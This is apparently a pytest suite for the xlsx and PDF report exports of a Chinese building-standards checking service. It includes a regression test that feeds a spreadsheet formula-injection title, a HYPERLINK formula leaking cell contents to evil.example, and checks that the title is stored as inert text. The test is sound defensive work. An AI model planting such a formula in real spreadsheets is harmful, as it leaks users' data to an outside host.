"""Report contents: the xlsx export keeps the original rows; the PDF 查新报告 says it all."""

from __future__ import annotations

import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from catalog.extraction.readers import read_pdf_pages
from checks.reports import pdf as pdf_report
from checks.reports.xlsx import build_xlsx
from checks.services.checking import CheckRequest, create_check, run_check
from checks.tests.documents import make_xlsx
from core.pdf import fonts as pdf_fonts

pytestmark = pytest.mark.django_db

ROWS = [
    ["序号", "标准名称", "标准编号", "备注"],
    [1, "混凝土结构工程施工质量验收规范", "GB 50204-2002", "主体结构"],
    [2, "施工安全检查", "JGJ 59-1999", None],
    [3, "卷烟", "GB/T 5606-2004", "+号段说明"],
    [4, "无标准的行", None, "电压 500kV"],
]


@pytest.fixture
def xlsx_check(catalogue):
    upload = SimpleUploadedFile("标准清单.xlsx", make_xlsx({"清单": ROWS}))
    return run_check(create_check(CheckRequest(upload=upload, title="某工程")).pk)


def test_xlsx_export_keeps_original_rows_and_adds_status_columns(xlsx_check):
    book = load_workbook(io.BytesIO(build_xlsx(xlsx_check, "https://stdbase.example")))
    assert book.sheetnames == ["查新结果", "清单", "概况"]
    original = [[c.value for c in row] for row in book["清单"].iter_rows()]
    assert original[0] == ["序号", "标准名称", "标准编号", "备注", "结论", "现行版本", "说明"]
    assert original[1][:4] == [1, "混凝土结构工程施工质量验收规范", "GB 50204-2002", "主体结构"]
    assert original[1][4:6] == ["GB 50204-2002 被代替", "GB 50204-2015"]
    assert original[2][4] == "JGJ 59-1999 废止"
    assert original[3][3] == "+号段说明"  # kept as text: it cannot run as a formula
    assert book["清单"]["D4"].data_type == "s" and book["清单"]["D4"].quotePrefix
    assert original[3][5] == "GB/T 5606.1-2023、GB/T 5606.2-2023"
    assert original[4][:4] == [4, "无标准的行", None, "电压 500kV"]
    assert original[4][4] in (None, "")
    results = [[c.value for c in row] for row in book["查新结果"].iter_rows()]
    assert results[0][:4] == ["序号", "原文", "标准号", "结论"]
    assert [r[2] for r in results[1:]] == ["GB 50204-2002", "JGJ 59-1999", "GB/T 5606-2004"]
    assert results[1][7] == "工作表 清单 第 2 行 C 列"
    facts = {row[0].value: row[1].value for row in book["概况"].iter_rows() if row[1].value}
    assert facts["验证码"] == xlsx_check.verification_code
    assert facts["目录快照日期"] == "2025-06-01"


def test_xlsx_overview_never_turns_a_title_into_a_live_formula(catalogue):
    # Issue 8 item 8: a title "=HYPERLINK(...)" became a live formula on the overview sheet.
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"打开")'
    check = run_check(create_check(CheckRequest(text="依据 GB 50204-2002。", title=title)).pk)
    data = build_xlsx(check)
    book = load_workbook(io.BytesIO(data))
    overview = {row[0].value: row[1] for row in book["概况"].iter_rows() if len(row) > 1}
    cell = overview["查新文件"]
    assert cell.value == title and cell.data_type == "s" and cell.quotePrefix
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


def pdf_text(data: bytes) -> str:
    return "".join(read_pdf_pages(data))


def test_pdf_report_contents(xlsx_check):
    data = pdf_report.build_pdf(xlsx_check, "https://stdbase.example")
    text = pdf_text(data)
    assert "标准查新报告" in text
    assert xlsx_check.verification_code in text
    assert "https://stdbase.example/checks/verify/" in text
    assert "目录快照日期：2025-06-01" in text
    assert xlsx_check.finished_at.astimezone().strftime("%Y-%m-%d") in text
    for expected in (
        "GB 50204-2002",
        "GB 50204-2015",
        "JGJ 59-1999",
        "被代替",
        "废止",
        "GB/T 5606.2-2023",
    ):
        assert expected in text


@pytest.mark.skipif(pdf_fonts.find_cjk_font() is None, reason="no CJK font installed")
def test_pdf_embeds_a_cjk_font(xlsx_check):
    data = pdf_report.build_pdf(xlsx_check)
    assert b"/FontFile" in data  # embedded, not left to the reader


def test_pdf_falls_back_to_a_builtin_cid_font_without_font_files(xlsx_check, monkeypatch):
    monkeypatch.setattr(pdf_fonts, "find_cjk_font", lambda: None)
    data = pdf_report.build_pdf(xlsx_check)
    assert b"STSong-Light" in data
    text = pdf_text(data)
    assert "标准查新报告" in text
    assert "GB 50204-2015" in text


def test_pdf_never_breaks_english_titles_mid_word(make_standard):
    # Issue 9: English titles in the PDF broke mid-word ("Requir ements").
    title = "Quality management systems — Requirements for organizations and suppliers"
    make_standard("ISO 9001:2015", title_zh="", title_en=title)
    check = run_check(create_check(CheckRequest(text="依据 ISO 9001:2015 进行质量管理。")).pk)
    words = set(re.findall(r"[A-Za-z]+", pdf_text(pdf_report.build_pdf(check))))
    assert set(re.findall(r"[A-Za-z]+", title)) <= words
    assert not {"Requir", "ements", "manage", "ment"} & words
